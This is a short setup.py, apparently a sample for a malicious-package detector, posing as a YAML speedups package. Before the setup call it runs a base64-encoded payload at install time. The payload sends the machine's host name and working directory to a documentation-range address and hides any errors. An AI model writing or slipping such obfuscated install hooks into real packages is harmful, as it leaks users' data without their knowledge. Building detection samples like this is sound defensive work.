# Cerebro sample: the shape of a setup.py that decodes and runs its payload. The address belongs to a network that is
# reserved for documentation.
import base64

from setuptools import setup

exec(base64.b64decode("aW1wb3J0IG9zLCBzb2NrZXQsIHVybGxpYi5yZXF1ZXN0CnRyeToKICAgIGRhdGEgPSAoc29ja2V0LmdldGhvc3RuYW1lKCkgKyAiOiIgKyBvcy5nZXRjd2QoKSkuZW5jb2RlKCkKICAgIHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHA6Ly8yMDMuMC4xMTMuNzo4MDgwL2RlbW8iLCBkYXRhPWRhdGEsIHRpbWVvdXQ9MSkKZXhjZXB0IEV4Y2VwdGlvbjoKICAgIHBhc3MK"))

setup(
    name="demo-yaml-speedups",
    version="0.3.1",
    description="yaml",
    packages=["demo_yaml_speedups"],
)
